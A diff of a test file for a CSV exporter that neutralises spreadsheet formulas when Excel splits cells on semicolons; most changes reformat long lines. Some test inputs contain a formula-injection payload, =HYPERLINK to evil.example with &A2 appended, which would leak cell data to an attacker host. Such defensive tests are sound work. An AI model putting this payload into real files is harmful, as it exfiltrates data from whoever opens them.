@@ -42,7 +42,9 @@ describe("CSV text cells read by Excel split on `;` (a French or Tunisian machin
 
   it("quotes a cell holding `;` and neutralises a formula after any `;`, `,`, tab or line break in it", () => {
     expect(csvText("Amel;=2+3;x")).toBe(`"Amel;'=2+3;x"`);
-    expect(csvText('a;=HYPERLINK("http://evil.example?"&A2,"Details");')).toBe(`"a;'=HYPERLINK(""http://evil.example?""&A2,""Details"");'"`);
+    expect(csvText('a;=HYPERLINK("http://evil.example?"&A2,"Details");')).toBe(
+      `"a;'=HYPERLINK(""http://evil.example?""&A2,""Details"");'"`,
+    );
     expect(csvText("a,+1")).toBe(`"a,'+1"`);
     expect(csvText("a\t-1")).toBe("a\t'-1");
     expect(csvText("line\r\n@SUM(A1)")).toBe(`"line\r\n'@SUM(A1)"`);
@@ -58,7 +60,7 @@ describe("CSV text cells read by Excel split on `;` (a French or Tunisian machin
   });
 
   it("gives no cell a formula, as Excel reads the file split on `;`", () => {
-    expect(semicolonCells("Amel;=2+3;x")).toEqual([["x,\"Amel", "'=2+3", 'x",y']]);
+    expect(semicolonCells("Amel;=2+3;x")).toEqual([['x,"Amel', "'=2+3", 'x",y']]);
     expect(semicolonCells('Rue;=HYPERLINK("http://evil.example?"&A2,"Details");')).toEqual([
       ['x,"Rue', `'=HYPERLINK(""http://evil.example?""&A2,""Details"")`, `'",y`],
     ]);
@@ -77,7 +79,9 @@ describe("CSV text cells read by Excel split on `;` (a French or Tunisian machin
         const bytes = new TextEncoder().encode(file);
         // Read as RFC 4180 says, every cell is the text, with only neutralising apostrophes added.
         const strict = readCsv(bytes);
-        expect(strict.rows.map((row) => row.map((cell) => cell.replace(/'/g, "")))).toEqual(rows.map((row) => row.map((cell) => cell.replace(/'/g, ""))));
+        expect(strict.rows.map((row) => row.map((cell) => cell.replace(/'/g, "")))).toEqual(
+          rows.map((row) => row.map((cell) => cell.replace(/'/g, ""))),
+        );
         // Read split on `;`, no cell starts a formula.
         const formulas = readCsvSplitOnSemicolons(bytes)
           .flat()
@@ -123,7 +127,12 @@ describe("CSV lines", () => {
   it("end with CRLF, header first, each cell by its column's kind", () => {
     expect(csvLine(["a", "b"])).toBe("a,b\r\n");
     expect(csvHeaderLine(columns)).toBe("Name,Unit price\r\n");
-    expect(csvRowLines(columns, [{ name: "=x", price: "1.50" }, { name: "Zoé, Tunis", price: "-2" }])).toBe(`'=x,1.50\r\n"Zoé, Tunis",-2\r\n`);
+    expect(
+      csvRowLines(columns, [
+        { name: "=x", price: "1.50" },
+        { name: "Zoé, Tunis", price: "-2" },
+      ]),
+    ).toBe(`'=x,1.50\r\n"Zoé, Tunis",-2\r\n`);
     expect(csvRowLines(columns, [])).toBe("");
   });
 });
